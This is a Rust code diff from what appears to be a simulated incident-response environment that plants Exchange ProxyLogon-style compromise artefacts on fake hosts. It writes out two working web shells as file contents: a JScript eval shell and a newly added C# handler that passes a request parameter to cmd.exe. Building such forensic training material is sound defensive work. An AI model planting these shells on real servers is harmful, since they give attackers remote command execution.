@@ -27,8 +27,10 @@ pub const ATTACKER_NOTSHELL: &str = "192.0.2.41";
 pub const INCIDENT_MS: i64 = 1_794_280_620_000;
 /// The provider of the CVE-2021-26857 events.
 pub const UM_PROVIDER: &str = "MSExchange Unified Messaging";
-/// The planted web shell, below IIS's aspnet_client.
-pub const WEB_SHELL: &str = r"C:\inetpub\wwwroot\aspnet_client\system_web\x5kqk2vc.aspx";
+/// The planted web shell, below the Default Web Site's root ([`HostSpec::web_root`]).
+pub const WEB_SHELL: &str = r"aspnet_client\system_web\x5kqk2vc.aspx";
+/// The planted handler shell (a generic handler runs code as a page does), below the install.
+pub const HANDLER_SHELL: &str = r"FrontEnd\HttpProxy\owa\auth\h4vzq0ms.ashx";
 /// The file CVE-2021-26858's plant says the OAB generator wrote.
 pub const OAB_WRITTEN: &str = r"C:\inetpub\wwwroot\aspnet_client\discover.aspx";
 /// The planted LSASS dump.
@@ -360,9 +362,23 @@ pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
             installed,
         ));
     }
+    // Where the Default Web Site's root is, the stock aspnet_client file, the same on every
+    // server (so no outlier wherever the root is); in owa\auth a script the host's admins
+    // added after the install, on this server only: not a file IIS runs, so not listed.
     out.push((
-        r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319\readme.txt".into(),
+        format!(
+            r"{}\aspnet_client\system_web\4_0_30319\readme.txt",
+            h.web_root()
+        ),
         b"ASP.NET client files\r\n".to_vec(),
+        start,
+    ));
+    out.push((
+        format!(
+            r"{install}FrontEnd\HttpProxy\owa\auth\custom-{}.js",
+            h.name.to_lowercase()
+        ),
+        format!("/* {} sign-in banner */\r\n", h.name).into_bytes(),
         start,
     ));
     out.push((
@@ -378,9 +394,15 @@ pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
     if h.has(Fault::IocWebShell) {
         let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\r\n";
         out.push((
-            WEB_SHELL.into(),
+            format!(r"{}\{WEB_SHELL}", h.web_root()),
             shell.as_bytes().to_vec(),
             INCIDENT_MS + 10 * MINUTE,
+        ));
+        let handler = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\r\nusing System.Web; public class H : IHttpHandler { public bool IsReusable { get { return false; } } public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request[\"c\"]); } }\r\n";
+        out.push((
+            format!("{install}{HANDLER_SHELL}"),
+            handler.as_bytes().to_vec(),
+            INCIDENT_MS + 12 * MINUTE,
         ));
     }
     if h.has(Fault::IocLsassDump) {
